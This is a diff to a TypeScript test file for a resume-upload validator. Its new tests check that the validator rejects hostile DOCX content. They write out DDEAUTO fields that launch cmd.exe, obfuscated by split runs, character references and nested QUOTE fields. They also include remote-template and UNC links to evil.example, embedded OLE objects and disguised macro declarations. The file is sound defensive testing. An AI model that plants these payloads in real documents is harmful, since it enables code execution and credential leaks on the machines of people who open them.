@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { bytesWindow } from './file-window';
 import { hasResumeFormat, isDoc, isDocx, isPdf, ZIP_MAX_ENTRIES } from './resume-format';
 import { oleWith } from './__fixtures__/ole';
-import { docxWith, zipWith } from './__fixtures__/zip';
+import { documentXml, docxWith, relationships, zipWith } from './__fixtures__/zip';
 
 /** Concatenates bytes and latin-1 strings (one byte per character) into one byte array. */
 function bytes(...parts: (string | ArrayLike<number>)[]): Uint8Array {
@@ -132,27 +132,9 @@ describe('DOCX by structure', () => {
     expect(performance.now() - started).toBeLessThan(2000);
   });
 
-  it('reads only a small window of each deflated entry, however far it would expand', async () => {
-    const expanding = deflateRawSync(Buffer.alloc(64 * 1024 * 1024));
-    const zip = docxWith([
-      { name: 'word/media/blank.bin', data: expanding, declaredSize: 64 * 1024 * 1024 },
-      { name: 'word/media/padding.bin', data: 'x'.repeat(70_000) }, // keeps the end record's window off it
-    ]);
-    // The first copy of the name is in the entry's local header, right before its data.
-    const dataStart = Buffer.from(zip).indexOf('word/media/blank.bin') + 'word/media/blank.bin'.length;
-    const dataEnd = dataStart + expanding.length;
-    let readOfIt = 0;
-    const window = bytesWindow(zip);
-    const counting = {
-      size: window.size,
-      read: (position: number, length: number) => {
-        readOfIt += Math.max(0, Math.min(dataEnd, position + length) - Math.max(dataStart, position));
-        return window.read(position, length);
-      },
-    };
-    expect(await isDocx(counting)).toBe(true);
-    expect(readOfIt).toBeGreaterThan(0);
-    expect(readOfIt).toBeLessThanOrEqual(64);
+  it('inflates each entry as a stream held to its declared size: 64 MB of zeros pass, memory stays flat', async () => {
+    const zip = docxWith([{ name: 'word/media/blank.bin', data: new Uint8Array(64 * 1024 * 1024), deflate: true }]);
+    expect(await docxOk(zip)).toBe(true);
   });
 
   it('refuses a [Content_Types].xml that inflates past its cap whatever size it declares', async () => {
@@ -184,6 +166,122 @@ describe('DOCX by structure', () => {
     expect(await docxOk(zipWith([{ name: 'password/document.xml' }, { name: '[Content_Types].xml' }]))).toBe(false);
     expect(await docxOk(pdf())).toBe(false);
     expect(await docxOk(oleWith(['WordDocument']))).toBe(false);
+  });
+});
+
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/';
+const run = (xml: string) => `<w:r>${xml}</w:r>`;
+/** A complex field as Word writes it: begin, the instruction in runs, separate, a result, end. */
+const complexField = (...instruction: string[]) =>
+  [
+    run('<w:fldChar w:fldCharType="begin"/>'),
+    ...instruction.map((part) => run(`<w:instrText xml:space="preserve">${part}</w:instrText>`)),
+    run('<w:fldChar w:fldCharType="separate"/>'),
+    run('<w:t>result</w:t>'),
+    run('<w:fldChar w:fldCharType="end"/>'),
+  ].join('');
+const withDocument = (body: string) => docxWith([], '<Types/>', documentXml(body));
+
+describe('DOCX active content', () => {
+  it('refuses a relationship to an outside target in any .rels: a remote template, a UNC image (probe F9a, F9b)', async () => {
+    const template = relationships(`${REL}attachedTemplate`, 'http://evil.example/t.dotm', 'External');
+    expect(await docxOk(docxWith([{ name: 'word/_rels/settings.xml.rels', data: template, deflate: true }]))).toBe(
+      false,
+    );
+    const unc = relationships(`${REL}image`, 'file://evil.example/share/x.png', 'External');
+    expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: unc }]))).toBe(false);
+    for (const mode of ['&#69;xternal', 'external', ' External ']) {
+      const written = relationships(`${REL}image`, 'http://evil.example/x.png', mode);
+      expect(await docxOk(docxWith([{ name: '_rels/.rels', data: written }])), mode).toBe(false);
+    }
+  });
+
+  it('accepts a web or mail link (Word opens it only when clicked), and an internal image', async () => {
+    for (const target of ['https://www.linkedin.com/in/giulia', 'mailto:giulia@acme.example']) {
+      const link = relationships(`${REL}hyperlink`, target, 'External');
+      expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: link }])), target).toBe(true);
+    }
+    const image = relationships(`${REL}image`, 'media/image1.png');
+    expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: image }]))).toBe(true);
+    const unc = relationships(`${REL}hyperlink`, 'file://evil.example/share', 'External');
+    expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: unc }]))).toBe(false);
+  });
+
+  it('refuses embedded objects: word/embeddings/*, and the oleObject and package relationship types (probe F9c)', async () => {
+    const ole = bytes(OLE2, 'Ole10Native', MZ);
+    expect(await docxOk(docxWith([{ name: 'word/embeddings/oleObject1.bin', data: ole, deflate: true }]))).toBe(false);
+    for (const type of ['oleObject', 'package']) {
+      const rels = relationships(`${REL}${type}`, 'media/image9.png');
+      expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: rels }])), type).toBe(false);
+    }
+  });
+
+  it('refuses altChunk and its aFChunk relationship (probe F9e)', async () => {
+    expect(await docxOk(withDocument('<w:altChunk r:id="rId9"/>'))).toBe(false);
+    const rels = relationships(`${REL}aFChunk`, 'afchunk.mht');
+    expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: rels }]))).toBe(false);
+  });
+
+  it('refuses DDE, DDEAUTO and INCLUDE* fields, however the runs split the instruction (probe F9d)', async () => {
+    const fields = [
+      `<w:fldSimple w:instr=' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'/>`,
+      complexField(' DD', 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '),
+      complexField('DDE c:\\\\x.exe'),
+      complexField(' INCLUDEPICTURE "http://evil.example/x.png" \\d '),
+      complexField('includetext "\\\\\\\\evil.example\\\\share\\\\x.docx"'),
+      complexField('&#68;DEAUTO c:\\\\x.exe'),
+      // The outer field's name comes from a nested QUOTE field: the way DDE hides from the text.
+      run('<w:fldChar w:fldCharType="begin"/>') + complexField('QUOTE 68 68 69') + complexField(' c:\\\\x.exe'),
+    ];
+    for (const field of fields) expect(await docxOk(withDocument(field)), field).toBe(false);
+    const header = documentXml(complexField('DDEAUTO c:\\\\x.exe'));
+    expect(await docxOk(docxWith([{ name: 'word/header1.xml', data: header, deflate: true }]))).toBe(false);
+    const utf16 = new Uint8Array(Buffer.from(`\uFEFF${documentXml(complexField('DDEAUTO c:\\\\x.exe'))}`, 'utf16le'));
+    expect(await docxOk(docxWith([], '<Types/>', utf16))).toBe(false);
+  });
+
+  it('accepts ordinary fields: PAGE, HYPERLINK, a table of contents, nested fields with a name', async () => {
+    const fields = [
+      '<w:fldSimple w:instr=" PAGE "/>',
+      complexField(' HYPERLINK "https://acme.example" '),
+      complexField(' TOC \\o "1-3" \\h '),
+      complexField(' IF ') + complexField(' PAGE ') + run('<w:t>=1</w:t>'),
+    ];
+    for (const field of fields) expect(await docxOk(withDocument(field)), field).toBe(true);
+  });
+
+  it('refuses a vbaProject relationship, and macros written with character references (probe F10b)', async () => {
+    const rels = relationships('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'macros.dat');
+    expect(await docxOk(docxWith([{ name: 'word/_rels/document.xml.rels', data: rels }]))).toBe(false);
+    const disguised =
+      '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>' +
+      '<Override PartName="/word/macros.dat" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>';
+    expect(await docxOk(docxWith([{ name: 'word/macros.dat', data: 'x' }], disguised))).toBe(false);
+    expect(await docxOk(docxWith([], '<!DOCTYPE Types [<!ENTITY m "macroEnabled">]><Types/>'))).toBe(false);
+  });
+
+  it('refuses duplicate entry names: a clean [Content_Types].xml and a macro-enabled one (probe F10c)', async () => {
+    const docm = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
+    const zip = zipWith([
+      { name: '[Content_Types].xml', data: '<Types/>' },
+      { name: 'word/document.xml', data: '<w:document/>' },
+      { name: '[Content_Types].xml', data: docm },
+    ]);
+    expect(await docxOk(zip)).toBe(false);
+    expect(await docxOk(docxWith([{ name: 'WORD/document.xml', data: '<w:document/>' }]))).toBe(false);
+  });
+
+  it('refuses an entry that inflates past its declared size, or short of it, without inflating the rest (probe F14)', async () => {
+    const liar = docxWith([
+      { name: 'word/media/big.xml', data: new Uint8Array(32 * 1024 * 1024), deflate: true, declaredSize: 1000 },
+    ]);
+    const started = performance.now();
+    expect(await docxOk(liar)).toBe(false);
+    expect(performance.now() - started).toBeLessThan(1000);
+    const short = docxWith([{ name: 'word/media/a.png', data: '\x89PNG', deflate: true, declaredSize: 5 }]);
+    expect(await docxOk(short)).toBe(false);
+    const stored = docxWith([{ name: 'word/media/a.png', data: '\x89PNG....', declaredSize: 4 }]);
+    expect(await docxOk(stored)).toBe(false);
   });
 });
 
